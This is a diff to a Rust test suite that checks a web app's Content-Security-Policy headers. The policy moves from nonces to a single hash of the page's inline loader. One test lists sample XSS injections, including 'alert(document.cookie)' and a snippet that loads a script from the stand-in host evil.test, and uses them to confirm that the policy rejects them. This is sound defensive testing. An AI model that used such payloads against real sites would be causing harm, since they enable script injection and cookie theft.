@@ -50,7 +50,11 @@ async fn every_kind_of_response_carries_the_security_headers() {
             assert_eq!(header(&response, name), value, "{what}");
         }
         let csp = header(&response, "content-security-policy");
-        assert!(csp.contains("script-src 'nonce-"), "{what}");
+        assert!(
+            csp.contains(&format!("script-src {LOADER_HASH} 'strict-dynamic'")),
+            "{what}: {csp}"
+        );
+        assert!(!csp.contains("nonce"), "{what}");
         assert!(csp.contains("'strict-dynamic'"), "{what}");
         assert!(csp.contains("frame-ancestors 'none'"), "{what}");
         assert!(csp.contains("object-src 'none'"), "{what}");
@@ -85,41 +89,90 @@ async fn an_oversized_body_is_refused_with_413() {
     assert_eq!(body["message"], "the body is over 1 MiB");
 }
 
-fn csp_nonce(csp: &str) -> String {
-    csp.split("'nonce-")
-        .nth(1)
-        .and_then(|s| s.split('\'').next())
-        .unwrap()
-        .to_string()
+/// The opening tags of `html`'s script elements, each with its text.
+fn scripts(html: &str) -> Vec<(&str, &str)> {
+    html.split("<script")
+        .skip(1)
+        .map(|rest| {
+            let (tag, after) = rest.split_once('>').unwrap();
+            (tag, after.split("</script>").next().unwrap())
+        })
+        .collect()
+}
+
+/// The policy's hash source for an inline script's text, computed here with the digest crates
+/// themselves rather than the server's helper.
+fn hash_source(text: &str) -> String {
+    use base64::Engine;
+    use sha2::Digest;
+    let digest = sha2::Sha256::digest(text.as_bytes());
+    format!(
+        "'sha256-{}'",
+        base64::engine::general_purpose::STANDARD.encode(digest)
+    )
 }
 
 #[tokio::test]
-async fn a_cached_page_gets_a_fresh_nonce_that_matches_its_policy() {
+async fn every_response_of_a_cached_page_is_the_same_and_its_policy_names_the_hash_of_each_script_that_runs()
+ {
     let app = spawn_app();
-    let mut nonces = Vec::new();
+    let mut seen = Vec::new();
     for _ in 0..2 {
         let response = app.get("/etender").await;
-        let nonce = csp_nonce(header(&response, "content-security-policy"));
+        let csp = header(&response, "content-security-policy").to_string();
+        let script_src = csp
+            .split("; ")
+            .find(|d| d.starts_with("script-src"))
+            .unwrap()
+            .to_string();
         let html = body_text(response).await;
-        let tags: Vec<&str> = html
-            .split("<script")
-            .skip(1)
-            .map(|rest| rest.split('>').next().unwrap())
-            .collect();
-        let (data, code): (Vec<&str>, Vec<&str>) = tags
-            .iter()
-            .partition(|tag| tag.contains("type=\"application/json\"") || tag.contains("ld+json"));
+        let tags = scripts(&html);
+        let (data, code): (Vec<_>, Vec<_>) = tags.iter().partition(|(tag, _)| {
+            tag.contains("type=\"application/json\"") || tag.contains("ld+json")
+        });
         assert!(!code.is_empty() && !data.is_empty(), "{tags:?}");
-        let marked = format!("nonce=\"{nonce}\"");
-        assert!(
-            code.iter().all(|tag| tag.contains(&marked)),
-            "every script that runs carries the response's nonce: {code:?}"
-        );
+        // Each script that runs is the shell's inline loader, allowed by its text's hash: no
+        // script is loaded from a file by the markup, none carries a nonce.
+        for (tag, text) in &code {
+            assert!(!tag.contains("src=") && !tag.contains("nonce"), "{tag}");
+            assert_eq!(hash_source(text), LOADER_HASH);
+            assert!(script_src.contains(&hash_source(text)), "{script_src}");
+        }
         // The page data and JSON-LD are never run; CSP does not govern them.
-        assert!(data.iter().all(|tag| !tag.contains("nonce")), "{data:?}");
-        nonces.push(nonce);
+        assert!(
+            data.iter().all(|(tag, _)| !tag.contains("nonce")),
+            "{data:?}"
+        );
+        assert!(!html.contains("nonce"));
+        seen.push((csp, html));
     }
-    assert_ne!(nonces[0], nonces[1]);
+    // Nothing differs between two responses: what a shared cache keeps and hands to everyone
+    // is exactly what each visitor would have been sent.
+    assert_eq!(seen[0], seen[1]);
+}
+
+#[tokio::test]
+async fn a_script_that_is_not_the_shells_own_has_no_hash_in_the_policy() {
+    let app = spawn_app();
+    let response = app.get("/etender").await;
+    let csp = header(&response, "content-security-policy").to_string();
+    // What an injection into a page would add: inline code, or the loader's text altered.
+    for injected in [
+        "alert(document.cookie)",
+        "(()=>{const s=document.createElement(\"script\");s.type=\"module\";s.src=\"https://evil.test/x.js\";document.head.append(s)})()",
+    ] {
+        assert!(!csp.contains(&hash_source(injected)), "{csp}");
+    }
+    let script_src = csp
+        .split("; ")
+        .find(|d| d.starts_with("script-src"))
+        .unwrap();
+    assert!(!script_src.contains("unsafe-inline"), "{script_src}");
+    assert_eq!(
+        script_src.matches("'sha256-").count(),
+        1,
+        "the shell's one inline script and nothing else: {script_src}"
+    );
 }
 
 #[tokio::test]
